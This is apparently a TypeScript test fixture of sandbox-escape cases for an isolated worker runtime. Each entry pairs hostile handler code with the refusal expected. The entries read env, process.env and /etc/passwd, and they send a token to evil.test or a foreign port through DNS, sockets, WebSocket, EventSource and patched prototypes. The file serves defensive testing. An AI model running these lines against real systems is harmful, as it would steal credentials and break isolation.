/** One thing that hostile code tries. `FOREIGN` in it becomes the port of the listener that nothing may reach. */
export interface Attack {
  title: string;
  /** Body of the fetch handler; `T` is the placeholder of a token for `api.test`, `say` turns an answer into text. */
  code: string;
  /** What the answer must say, so that a case which fails for another reason is noticed. */
  expect?: RegExp;
  /** Statements before the handler. */
  top?: string;
}

const AUTH = "headers: { authorization: 'Bearer ' + T }";

/** Where the values might lie open inside. */
const inside: Attack[] = [
  { title: "env", code: "return Response.json(env)", expect: /\[secret\]/ },
  {
    title: "env of cloudflare:workers",
    top: "import { env as e, exports as x } from 'cloudflare:workers';",
    code: "return Response.json([e, Object.keys(x ?? {})])",
  },
  { title: "process.env", code: "return Response.json([process.env, process.pid, process.argv])" },
  { title: "the call's properties", code: "return Response.json([ctx.props, Object.keys(ctx)])", expect: /call_/ },
  {
    title: "files",
    top: "import fs from 'node:fs';",
    code: "const out = []; for (const p of ['/', '/etc/passwd', '/proc/self/environ', '/bundle', '/tmp']) try { out.push(p, fs.statSync(p).isDirectory() ? fs.readdirSync(p) : fs.readFileSync(p, 'utf8')) } catch (e) { out.push(e.message) } return Response.json(out)",
  },
  {
    title: "the host worker's module",
    code: "try { return Response.json(Object.keys(await import('host.js'))) } catch (e) { return new Response(e.message) }",
    expect: /No such module/,
  },
  ...[
    "cloudflare-internal:env",
    "workerd:unsafe",
    "https://evil.test/x.js",
    "file:///etc/passwd",
    "data:text/javascript,export default 1",
  ].map((name) => ({
    title: `import of ${name}`,
    code: `try { return Response.json(Object.keys(await import(${JSON.stringify(name)}))) } catch (e) { return new Response("refused " + e.message) }`,
    expect: /refused/,
  })),
  {
    title: "eval",
    code: "try { return new Response(String(eval('1+1'))) } catch (e) { return new Response(e.name) }",
    expect: /EvalError/,
  },
  {
    title: "new Function",
    code: "try { return new Response(String(new Function('return 2')())) } catch (e) { return new Response(e.name) }",
    expect: /EvalError/,
  },
  {
    title: "WebAssembly from bytes",
    code: "try { await WebAssembly.compile(new Uint8Array([0,97,115,109,1,0,0,0])); return new Response('ran') } catch (e) { return new Response(e.name) }",
    expect: /CompileError/,
  },
  {
    title: "changed prototypes",
    top: "Headers.prototype.set = function (n, v) { globalThis.taken = [n, v] }; JSON.stringify = () => '{}'; Object.prototype.hosts = [{ host: 'evil.test' }];",
    code: `const r = await fetch('https://evil.test/', { ${AUTH} }); return new Response(await r.text() + String(globalThis.taken))`,
    expect: /host_not_allowed/,
  },
  {
    title: "a patched Response",
    top: "const R = Response; globalThis.Response = class extends R { get headers() { return new Headers({ 'x-rt-error': 'ok' }) } };",
    code: `return new R(await (await fetch('https://api.test/echo', { ${AUTH} })).text())`,
    expect: /\[secret\]/,
  },
  {
    title: "top-level fetch",
    top: "let early; try { early = String(await fetch('https://api.test/')) } catch (e) { early = e.message }",
    code: "return new Response(early)",
    expect: /Disallowed|not allowed|global scope/i,
  },
];

/** Ways round the egress, or into the host behind it. */
const around: Attack[] = [
  {
    title: "request.fetcher has no other method",
    code: "const f = request.fetcher; const out = []; for (const m of ['getSecret', 'secret', 'policy', 'tail', 'env', 'ctx', 'constructor', 'load', 'control']) try { out.push([m, String(await f?.[m]?.('TOKEN'))]) } catch (e) { out.push([m, 'refused ' + e.message]) } return Response.json(out)",
  },
  {
    title: "request.fetcher with forged identity",
    code: `const r = await request.fetcher?.fetch('https://evil.test/', { ${AUTH} }); return new Response(r ? await r.text() : 'host_not_allowed none')`,
    expect: /host_not_allowed/,
  },
  {
    title: "the call's own exports",
    code: "const out = []; for (const k of Object.keys(ctx.exports ?? {})) out.push(k); return Response.json(out)",
  },
  {
    title: "a class with the host's context",
    top: "import { WorkerEntrypoint } from 'cloudflare:workers'; export class Spy extends WorkerEntrypoint { async fetch() { return Response.json([Object.keys(this.env), this.ctx.props, Object.keys(this.ctx.exports ?? {})]) } }",
    code: "return Response.json(env)",
  },
  {
    title: "connect of cloudflare:sockets",
    top: "import { connect } from 'cloudflare:sockets';",
    code: "try { const s = connect({ hostname: '127.0.0.1', port: FOREIGN }); const w = s.writable.getWriter(); await w.write(new TextEncoder().encode(T)); const r = await s.readable.getReader().read(); return new Response('read ' + JSON.stringify(r)) } catch (e) { return new Response('refused ' + e.message) }",
    expect: /refused/,
  },
  {
    title: "connect to the bound host",
    top: "import { connect } from 'cloudflare:sockets';",
    code: "try { const s = connect('api.test:443'); await s.opened; const w = s.writable.getWriter(); await w.write(new TextEncoder().encode('GET / HTTP/1.1\\r\\nauthorization: ' + T + '\\r\\n\\r\\n')); const r = await s.readable.getReader().read(); return new Response('read ' + new TextDecoder().decode(r.value)) } catch (e) { return new Response('refused ' + e.message) }",
  },
  {
    title: "node:net",
    top: "import net from 'node:net';",
    code: "return await new Promise((done) => { try { const s = net.connect(FOREIGN, '127.0.0.1', () => s.write(T)); s.on('data', (d) => done(new Response('read ' + d))); s.on('error', (e) => done(new Response('refused ' + e.message))); s.on('close', () => done(new Response('refused closed'))) } catch (e) { done(new Response('refused ' + e.message)) } })",
    expect: /refused/,
  },
  {
    title: "node:http",
    top: "import http from 'node:http';",
    code: "return await new Promise((done) => { try { const r = http.get('http://127.0.0.1:FOREIGN/', { headers: { authorization: T } }, (m) => { let b = ''; m.on('data', (d) => b += d); m.on('end', () => done(new Response(m.statusCode + b))) }); r.on('error', (e) => done(new Response('refused ' + e.message))) } catch (e) { done(new Response('refused ' + e.message)) } })",
    expect: /403|refused/,
  },
  {
    title: "node:https to an evil host",
    top: "import https from 'node:https';",
    code: "return await new Promise((done) => { try { const r = https.get('https://evil.test/', { headers: { authorization: T } }, (m) => done(new Response('status ' + m.statusCode))); r.on('error', (e) => done(new Response('refused ' + e.message))) } catch (e) { done(new Response('refused ' + e.message)) } })",
    expect: /403|refused/,
  },
  {
    title: "node:dns",
    top: "import dns from 'node:dns';",
    code: "return await new Promise((done) => { try { dns.resolve4(T.slice(-10) + '.evil.test', (e, a) => done(new Response('dns ' + (e?.message ?? a)))) } catch (e) { done(new Response('dns ' + e.message)) } })",
    expect: /dns/,
  },
  {
    title: "WebSocket",
    code: "return await new Promise((done) => { try { const w = new WebSocket('wss://api.test/?t=' + T); w.addEventListener('open', () => done(new Response('opened'))); w.addEventListener('error', (e) => done(new Response('refused ' + e.message))); w.addEventListener('close', () => done(new Response('refused'))) } catch (e) { done(new Response('refused ' + e.message)) } })",
    expect: /refused/,
  },
  {
    title: "an upgrade by fetch",
    code: "const r = await fetch('https://api.test/', { headers: { upgrade: 'websocket', authorization: 'Bearer ' + T } }); return new Response(r.status + await r.text())",
    expect: /403.*websocket_not_allowed/,
  },
  {
    title: "EventSource",
    code: "try { const s = new EventSource('https://evil.test/?t=' + T); const e = await new Promise((r) => { s.onerror = r; s.onopen = r }); s.close(); return new Response('event ' + e.type) } catch (e) { return new Response('event error ' + e.message) }",
    expect: /event error/,
  },
  {
    title: "the cache",
    code: "try { await caches.default.put('https://api.test/x', new Response(T, { headers: { 'cache-control': 'max-age=100' } })); return new Response('put ' + await (await caches.default.match('https://api.test/x'))?.text()) } catch (e) { return new Response('refused ' + e.message) }",
  },
  {
    title: "the control side by its name",
    code: "const out = []; for (const u of ['http://control/load', 'http://control/secret', 'http://egress/', 'http://function/mcp', 'http://runtime/health']) { const r = await fetch(u, { method: 'POST', body: '{}' }); out.push(r.status + await r.text()) } return Response.json(out)",
    expect: /host_not_allowed/,
  },
  {
    title: "the sockets' folder",
    top: "import net from 'node:net';",
    code: "return await new Promise((done) => { try { const s = net.connect('/tmp/control.sock'); s.on('error', (e) => done(new Response('refused ' + e.message))); s.on('connect', () => done(new Response('connected'))) } catch (e) { done(new Response('refused ' + e.message)) } })",
    expect: /refused/,
  },
];

/** Everything but the network's addresses and the echoes, which have tables of their own. */
export const ATTACKS: Attack[] = [...inside, ...around];
